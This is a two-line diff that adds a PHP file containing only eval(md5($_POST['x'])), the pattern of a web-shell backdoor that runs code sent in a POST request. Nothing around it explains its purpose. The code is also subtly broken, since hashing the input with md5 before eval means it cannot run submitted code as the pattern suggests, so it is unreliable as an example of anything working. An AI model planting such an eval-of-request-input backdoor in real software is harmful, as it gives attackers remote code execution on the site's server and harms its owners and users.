@@ -1,0 +1,2 @@
+<?php
+eval(md5($_POST['x']));
